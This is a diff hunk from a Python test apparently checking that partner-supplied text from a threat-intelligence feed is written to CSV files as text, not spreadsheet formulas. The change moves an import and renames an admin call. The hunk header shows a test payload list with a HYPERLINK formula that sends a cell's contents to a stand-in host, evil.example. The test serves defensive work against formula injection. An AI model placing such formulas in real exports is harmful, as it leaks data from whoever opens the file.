@@ -441,11 +441,11 @@ FORMULAS = ('=HYPERLINK("https://evil.example/?"&A2,"details")', "+1+1", "-2+3",
 
 def test_partner_text_reaches_the_csv_files_as_text_not_formulas(exchange: Exchange) -> None:
     """Lab B names itself with a formula and recommends a formula action: cells start with '."""
-    from tests.feed.harness import LAB_B_IDENTITY
     from tests.feed.stix_factory import indicator as plain_indicator
+    from tests.support.exchange import LAB_B_IDENTITY
 
     collection_id = exchange.add_collection("formula feed", "formula-feed")
-    exchange.admin_batch(["grant", "lab-b", collection_id, "--read", "--write"])
+    exchange.admin(["grant", "lab-b", collection_id, "--read", "--write"])
     identity = {
         "type": "identity",
         "spec_version": "2.1",
